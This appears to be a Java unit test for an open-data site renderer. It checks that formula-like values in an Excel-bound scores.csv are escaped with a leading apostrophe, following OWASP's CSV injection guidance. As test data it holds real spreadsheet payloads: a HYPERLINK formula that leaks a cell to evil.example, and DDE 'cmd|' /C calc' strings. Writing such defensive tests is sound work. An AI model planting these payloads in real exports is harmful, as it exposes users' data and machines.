package org.opendti.render;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.opendti.git.FileProvenance;
import org.opendti.git.MainCommit;
import org.opendti.load.Dataset;
import org.opendti.model.Unit;
import org.opendti.model.UnitRegistry;
import org.opendti.score.UnitScore;

/**
 * Issue #13: {@code scores.csv} is made for Excel, so no text cell may start a formula (OWASP "CSV
 * Injection"): {@code =}, {@code +}, {@code -}, {@code @}, tab and carriage return.
 */
class CsvInjectionTest {

  /** The forms from the issue and OWASP, one per leading character. */
  static final List<String> FORMULAS =
      List.of(
          "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"Xem\")",
          "+1+1",
          "-2+3+cmd|' /C calc'!A0",
          "@SUM(1+1)*cmd|' /C calc'!A0",
          "\t=1+1",
          "\r=1+1");

  @TempDir Path schemas;

  @Test
  void everyTextColumnFilledWithAFormulaIsWrittenAsText() {
    SiteInput input = hostileInput();
    List<String> header =
        OpenData.header(
            new SiteIndex(input), SiteFixture.framework(), input.scores().get(0).periodId());
    for (String formula : FORMULAS) {
      List<String> row = new ArrayList<>();
      for (String column : header) {
        row.add(text(column) ? formula : "-1.5");
      }
      List<String> out = OpenData.neutralised(header, row);
      for (int i = 0; i < header.size(); i++) {
        if (text(header.get(i))) {
          assertThat(out.get(i)).as(header.get(i)).isEqualTo("'" + formula);
        } else {
          assertThat(out.get(i)).as(header.get(i) + " stays a number").isEqualTo("-1.5");
        }
      }
    }
    assertThat(header.stream().filter(CsvInjectionTest::text))
        .contains("unit_id", "unit_name", "parent_id", "parent_name", "classification")
        .contains("submission_file", "approved_by", "commits", "sha256");
    assertThat(OpenData.textCell("Xã =Đông")).isEqualTo("Xã =Đông");
    assertThat(OpenData.textCell("")).isEmpty();
  }

  @Test
  void hostileNamesAndProvenanceReachTheFileInert() throws IOException {
    SiteInput input = hostileInput();

    RenderedSite site = SiteRendererTest.renderer(schemas, null).render(input);

    String period = input.scores().get(0).periodId();
    String csv =
        new String(site.bytes("data/xa-mau/" + period + "/scores.csv"), StandardCharsets.UTF_8)
            .substring(1);
    List<CSVRecord> records =
        CSVFormat.RFC4180.builder().setHeader().get().parse(new StringReader(csv)).getRecords();
    assertThat(records).isNotEmpty();
    List<String> header = records.get(0).getParser().getHeaderNames();
    int hostileCells = 0;
    for (CSVRecord r : records) {
      for (String column : header) {
        String cell = r.get(column);
        if (cell.isEmpty()) {
          continue;
        }
        if (text(column)) {
          assertThat("=+-@\t\r".indexOf(cell.charAt(0))).as(column + ": " + cell).isNegative();
          if (cell.startsWith("'")) {
            hostileCells++;
          }
        } else {
          assertThat(new BigDecimal(cell)).as(column).isNotNull();
        }
      }
    }
    // names, parent names, file, approvers, commits and hash of every row
    assertThat(hostileCells).isGreaterThanOrEqualTo(records.size() * 5);
    assertThat(csv).contains("'@org/team +x").contains("'=cmd|' /C calc'!A0");
  }

  /** The fixture with a formula as every unit's name and in every provenance text. */
  static SiteInput hostileInput() {
    SiteInput plain = SiteFixture.input();
    List<Unit> units = new ArrayList<>();
    int i = 0;
    for (Unit u : plain.dataset().registry().units()) {
      String name = FORMULAS.get(i++ % FORMULAS.size());
      units.add(
          new Unit(
              u.id(),
              name,
              u.nameEn(),
              u.level(),
              u.parent(),
              u.validFrom(),
              u.validTo(),
              u.predecessors(),
              u.successors(),
              u.sample()));
    }
    Dataset d = plain.dataset();
    Dataset hostile =
        new Dataset(
            new UnitRegistry(d.registry().levels(), units),
            d.frameworks(),
            d.submissions(),
            d.reviews());
    Map<String, FileProvenance> provenance = new TreeMap<>();
    for (UnitScore s : plain.scores()) {
      provenance.put(
          s.submissionFile(),
          new FileProvenance(
              "=cmd|' /C calc'!A0",
              new MainCommit("=" + "a".repeat(39), Instant.EPOCH, 1, List.of()),
              new MainCommit("b".repeat(40), Instant.EPOCH, 2, List.of("@org/team", "+x")),
              List.of("-" + "c".repeat(39)),
              "@" + "d".repeat(63)));
    }
    return new SiteInput(
        hostile, plain.diagnostics(), plain.scores(), plain.rankings(), new TreeMap<>(provenance));
  }

  private static boolean text(String column) {
    return !(column.equals("total")
        || column.startsWith("rank_")
        || column.startsWith("pillar_")
        || column.startsWith("criterion_")
        || column.endsWith("_pull_request"));
  }
}
